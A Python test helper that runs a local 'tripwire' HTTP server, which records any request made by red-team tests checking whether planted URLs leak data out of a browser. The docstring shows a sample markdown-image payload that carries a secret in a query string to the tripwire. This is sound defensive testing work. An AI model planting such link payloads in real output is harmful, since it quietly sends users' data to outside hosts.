"""A server that must never be called: it records every request it gets.

The red-team tests point every URL an attacker would plant (images, styles, forms, frames,
prefetches) at it; any request it records is data that left the browser without the user.
It answers everything with a tiny image, a stylesheet-looking body and status 200, so
nothing fails in a way that would hide a second attempt.

    with Tripwire() as tripwire:
        payload = f"![x]({tripwire.url('leak?secret=42')})"
        ...
        assert tripwire.hits == []
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# A 1x1 transparent GIF.
PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: "_Server"

    def log_message(self, *args):
        pass

    def _record(self):
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.owner.hits.append({"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body.decode(errors="replace")})
        self.send_response(200)
        self.send_header("content-type", "image/gif")
        self.send_header("content-length", str(len(PIXEL)))
        self.send_header("access-control-allow-origin", "*")
        self.end_headers()
        self.wfile.write(PIXEL)

    do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _record


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    owner: "Tripwire"


class Tripwire:
    def __init__(self):
        self.hits: list[dict] = []
        self._httpd = _Server(("127.0.0.1", 0), _Handler)
        self._httpd.owner = self
        self._thread: threading.Thread | None = None

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self._httpd.server_address[1]}"

    def url(self, path: str = "") -> str:
        return f"{self.origin}/{path.lstrip('/')}"

    def __enter__(self) -> "Tripwire":
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()
